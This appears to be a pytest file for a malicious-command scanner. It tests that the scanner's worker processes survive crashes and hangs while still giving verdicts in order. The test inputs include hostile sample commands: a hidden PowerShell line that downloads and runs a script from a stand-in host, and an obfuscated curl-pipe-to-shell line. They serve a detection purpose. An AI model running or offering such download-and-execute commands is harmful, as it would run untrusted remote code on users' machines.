"""`scan --jsonl` in worker processes: a crash costs one retry, not the batch.

The real command (app/commands/scan.py) and real forked workers; the only test part is the
engine's `examine` (its reading of a text), which in a worker (never in this process)
segfaults or hangs on a marker.
"""

from __future__ import annotations

import faulthandler
import json
import os
import re
import signal
import sys
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from app.commands import scan
from app.detection import Context, Engine, Level
from app.detection.engine import INCOMPLETE_RULE
from app.detection.pool import Pool, WorkerError
from app.detection.worker import WorkerSpec
from tests.app.detection.test_supervisor import alive
from tests.app.test_cli import run_main
from tests.conftest import STRICT

LURE = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
HARMLESS = "echo hello world"
ONCE = re.compile(r"SEGV-ONCE:(\S+)")


@pytest.fixture
def markers(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """In a worker, a text with SEGV-ALWAYS / SEGV-ONCE:<flag file> / HANG-ALWAYS crashes or
    hangs the process; this process reads every text normally."""
    parent = os.getpid()
    real = Engine.examine  # the reading, where a native parser would crash or hang

    def examine(self: Engine, text: str | bytes) -> object:
        if os.getpid() != parent and isinstance(text, str):
            once = ONCE.search(text)
            if "SEGV-ALWAYS" in text or (once and _first_time(Path(once.group(1)))):
                faulthandler.disable()  # a crash on purpose: no "Fatal Python error" in the log
                os.kill(os.getpid(), signal.SIGSEGV)
            if "HANG-ALWAYS" in text:
                time.sleep(3600)
        return real(self, text)

    monkeypatch.setattr(Engine, "examine", examine)
    yield


def _first_time(path: Path) -> bool:
    try:
        path.touch(exist_ok=False)
    except FileExistsError:
        return False
    return True


def batch(tmp_path: Path, texts: list[str]) -> Path:
    path = tmp_path / "batch.jsonl"
    path.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in enumerate(texts)))
    return path


def scan_lines(
    path: Path, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> list[dict[str, object]]:
    code, out, _err = run_main(["scan", "--jsonl", str(path)], capsys)
    assert code == 0
    return [json.loads(line) for line in out.splitlines()]


def expected(engine: Engine, text: str) -> tuple[str, list[str]]:
    verdict = engine.analyze(text)
    return verdict.level.label, verdict.rule_ids


def texts_with(marker: str, n: int = 40) -> list[str]:
    return [f"{LURE} {marker}" if i == n // 2 else (LURE if i % 3 else HARMLESS) + f" #{i}"
            for i in range(n)]  # fmt: skip


def test_a_crash_in_the_middle_costs_that_line_one_retry_and_the_batch_is_whole(
    markers: None,
    engine: Engine,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    flag = tmp_path / "crashed"
    texts = texts_with(f"SEGV-ONCE:{flag}")
    lines = scan_lines(batch(tmp_path, texts), capsys, caplog)
    assert flag.exists()  # a worker really died on it
    assert [r.levelname for r in caplog.records] == ["WARNING"]  # one crash, no fallback
    assert [line["id"] for line in lines] == list(range(len(texts)))  # all, in input order
    for line, text in zip(lines, texts, strict=True):
        assert (line["level"], line["rules"]) == expected(engine, text)


def test_a_line_the_workers_die_on_twice_is_read_with_the_patterns_only_never_clean(
    markers: None,
    engine: Engine,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    texts = [HARMLESS, f"{HARMLESS} SEGV-ALWAYS", LURE, f"{LURE} SEGV-ALWAYS", HARMLESS]
    lines = scan_lines(batch(tmp_path, texts), capsys, caplog)
    assert [line["id"] for line in lines] == list(range(len(texts)))
    for i in (1, 3):
        assert Level.parse(str(lines[i]["level"])) >= Level.SUSPICIOUS
        assert INCOMPLETE_RULE in lines[i]["rules"]  # type: ignore[operator]
    assert lines[3]["level"] == "malicious"  # a lure is a lure with the patterns alone
    for i in (0, 2, 4):
        assert (lines[i]["level"], lines[i]["rules"]) == expected(engine, texts[i])
    said = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert said == [
        f"item {i}: the full reading failed twice; it was read with the patterns only and "
        "reported as not checked fully"
        for i in (2, 4)
    ]


def pool(engine: Engine, **kwargs: object) -> tuple[Pool, list[int]]:
    answer = partial(scan._batch_frame, default=Context(), escape=True)
    patterns = Engine(strict=STRICT, interpreters=False)
    started: list[int] = []
    p = Pool(engine, WorkerSpec(strict=STRICT), answer, partial(answer, patterns), **kwargs)  # type: ignore[arg-type]
    start = p._start

    def recorded() -> object:
        worker = start()
        started.append(worker.process.pid)
        return worker

    p._start = recorded  # type: ignore[method-assign]
    return p, started


def lines_of(frames: list[bytes]) -> list[dict[str, object]]:
    return [json.loads(f[1:]) for f in frames]


def test_a_hung_worker_is_killed_at_the_deadline_and_no_worker_outlives_the_batch(
    markers: None, engine: Engine
) -> None:
    p, started = pool(engine, workers=2, deadline=1.0)
    texts = texts_with("HANG-ALWAYS", 10)
    items = [json.dumps({"id": i, "text": t}) for i, t in enumerate(texts)]
    out = lines_of(list(p.answers(items)))
    assert [line["id"] for line in out] == list(range(10))
    assert INCOMPLETE_RULE in out[5]["rules"]  # type: ignore[operator]
    assert p.failures == 2 and p.fallbacks == 1
    assert len(started) == 4  # two, and one in place of each hung one
    assert not any(alive(pid) for pid in started)


def test_a_bug_in_a_worker_is_raised_here(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(self: Engine, text: object) -> object:
        raise RuntimeError("a bug in the engine")

    monkeypatch.setattr(Engine, "examine", broken)
    p, started = pool(engine, workers=2)
    with pytest.raises(WorkerError, match="a bug in the engine"):
        list(p.answers([json.dumps({"id": 1, "text": HARMLESS})]))
    assert started and not any(alive(pid) for pid in started)


def test_typed_lines_get_each_answer_before_the_next_line_is_read(engine: Engine) -> None:
    p, _started = pool(engine, workers=2)
    got: list[bytes] = []

    def typed() -> Iterator[str]:
        for i in range(4):
            assert len(got) == i  # the answer to the line before is out
            yield json.dumps({"id": i, "text": LURE if i % 2 else HARMLESS})

    for frame in p.answers(typed(), one_at_a_time=True):
        got.append(frame)
    assert [line["id"] for line in lines_of(got)] == [0, 1, 2, 3]


@pytest.mark.skipif(sys.platform != "linux", reason="the fence is glibc's (Linux)")
def test_a_real_segfault_in_the_bash_grammar_costs_one_line_not_the_batch(
    engine: Engine,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Each forked worker runs tree-sitter-bash with its screen taken away and the C library's
    character table fenced (failing_worker.native_crash): the grammar's own out-of-bounds read
    faults, inside the C code, on the line that reaches it."""
    from app.detection import pool as pool_module
    from app.detection.interpret import grammar
    from tests.app.detection.interpret.bash_scanner_probe import fence

    real_quiet = pool_module.quiet

    def fenced() -> None:  # the first thing a worker does, in the worker only
        real_quiet()
        faulthandler.disable()  # the crash below is on purpose: keep the test log clean
        assert fence()
        grammar.screen_bash = lambda data: data

    monkeypatch.setattr(pool_module, "quiet", fenced)
    crash = "a=cu;b=rl;$a$b -fsSL https://unknown-vendor.example/i.sh | sh; echo {\u4e2d}"
    texts = [HARMLESS, LURE, crash, LURE + " #2", HARMLESS + " again"]
    lines = scan_lines(batch(tmp_path, texts), capsys, caplog)
    assert [line["id"] for line in lines] == list(range(len(texts)))
    assert Level.parse(str(lines[2]["level"])) >= Level.SUSPICIOUS
    assert INCOMPLETE_RULE in lines[2]["rules"]  # type: ignore[operator]
    for i in (0, 1, 3, 4):
        assert (lines[i]["level"], lines[i]["rules"]) == expected(engine, texts[i])
    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert len(warnings) == 2 and all("died on item 3" in w for w in warnings)


def test_many_and_large_items_arrive_whole_and_in_order(engine: Engine) -> None:
    """Items go to a worker several to a write and answers come back several to a read: an
    item larger than the pipe, answers split across reads, and text beyond ASCII (a lone
    surrogate too) each get the answer this process gives them."""
    # The 300 KB items take ~0.4 s of CPU each; at a load of ~15 on two cores that passed the
    # pool's 5 s of wall time, and the patterns-only answer came back for them (a deadline of
    # 0.1 s shows the same). The deadline itself is held by the hung-worker test above.
    p, _started = pool(engine, workers=2, deadline=60.0)
    big = LURE + " " + "x" * 300_000  # larger than a pipe's buffer and than DEPTH_BYTES
    texts = [(LURE if i % 3 else HARMLESS) + f" #{i} \u4e2d\u00e9" for i in range(200)]
    texts[7] = big
    texts[120] = big + "\ud800"
    items = [json.dumps({"id": i, "text": t}) for i, t in enumerate(texts)]
    answer = partial(scan._batch_frame, default=Context(), escape=True)
    got = [_untimed(frame) for frame in p.answers(items)]
    assert got == [_untimed(answer(engine, item)) for item in items]
    assert p.failures == 0


def _untimed(frame: bytes) -> tuple[bytes, dict[str, object]]:
    line = json.loads(frame[1:])
    del line["elapsed_ms"]
    return frame[:1], line


def _which_worker(engine: Engine, item: str) -> bytes:
    """An answer that says which worker gave it (module level: forked workers run it)."""
    time.sleep(0.001)  # the parent reads answers while items are still in hand
    return f"{os.getpid()} {item}".encode()


def _group(item: str) -> str | None:
    return item.split(":")[0] or None


@pytest.mark.parametrize("keyed", [True, False])
def test_items_with_the_key_of_the_one_before_go_to_its_worker(engine: Engine, keyed: bool) -> None:
    """Runs of items with one key (a text repeated for several targets) each go to one worker,
    which then reuses what it read; without a key the same runs are split between workers
    (the routing had the choice to make), and every answer still comes back in order."""
    items = [f"{g}:{k}" for g in range(150) for k in range(1 + g % 4)]
    # Without the key, how the runs fall between the workers depends on how fast each answers,
    # which a loaded machine decides (it once dealt everything one way): that side is only the
    # control showing the routing had a choice, so it may take up to three batches to show it.
    for _attempt in range(1 if keyed else 3):
        p = Pool(engine, WorkerSpec(strict=STRICT), _which_worker, lambda item: b"",  # type: ignore[arg-type]
                 workers=2, key=_group if keyed else None)  # fmt: skip
        answers = [frame.decode().split(" ", 1) for frame in p.answers(items)]
        assert [item for _pid, item in answers] == items
        workers_of: dict[str, set[str]] = {}
        for pid, item in answers:
            workers_of.setdefault(item.split(":")[0], set()).add(pid)
        split = [g for g, pids in workers_of.items() if len(pids) > 1]
        both = len({pid for pid, _item in answers}) == 2
        if keyed or (both and split):
            break
    assert both, "both workers had items"
    if keyed:
        assert split == []
    else:
        assert split, "without the key some run is dealt to both workers"


def test_the_text_key_is_the_lines_text_as_written_and_cheap_on_any_line() -> None:
    line = json.dumps({"id": 1, "text": 'say "hi"\\there', "target": "terminal"})
    assert scan.text_key(line) == json.dumps('say "hi"\\there')[1:-1]
    other = json.dumps({"target": "run_dialog", "text": 'say "hi"\\there', "id": 2})
    assert scan.text_key(other) == scan.text_key(line)
    assert scan.text_key(json.dumps({"id": 1, "text": "say hi"})) != scan.text_key(line)
    assert scan.text_key('{"id": 1}') is None and scan.text_key("not json") is None
    long = json.dumps({"id": 1, "text": "x" * 1_000_000})
    assert len(scan.text_key(long) or "") < scan.KEY_WINDOW
    for hostile in ('"text": "' + "\\" * 999_999, '"text": "' + '\\"' * 500_000, "[" * 10**6):
        started = time.perf_counter()
        scan.text_key(hostile)
        assert time.perf_counter() - started < 0.05


def test_the_parent_sleeps_until_a_worker_is_about_to_need_more() -> None:
    """Half the time the soonest worker needs, at its pace, to come down to REFILL_AT items
    (so that a worker twice as fast as its pace still has REFILL_AT in hand), or to finish
    when there is nothing more to give; never longer than MAX_NAP; no nap before a pace."""
    from app.detection import pool

    def worker(items: int, pace: float) -> Any:
        return SimpleNamespace(inflight=[None] * items, pace=pace)

    refill = pool.REFILL_AT
    fast, slow = worker(refill + 64, 0.0005), worker(refill + 20, 0.004)
    assert pool._nap([fast, slow], more=True) == pytest.approx(64 * 0.0005 / 2)
    assert pool._nap([fast], more=True) == pytest.approx(0.016)
    # nothing more to give: until it is done (halved), not until it has REFILL_AT left
    assert pool._nap([fast], more=False) == pytest.approx((refill + 64) * 0.0005 / 2)
    # at or below REFILL_AT with more to give (an item too large to add): until it is done
    assert pool._nap([worker(3, 0.001)], more=True) == pytest.approx(0.0015)
    assert pool._nap([worker(refill + 60, 0.5)], more=True) == pool.MAX_NAP
    assert pool._nap([worker(refill + 60, 0.0), fast], more=True) == 0.0
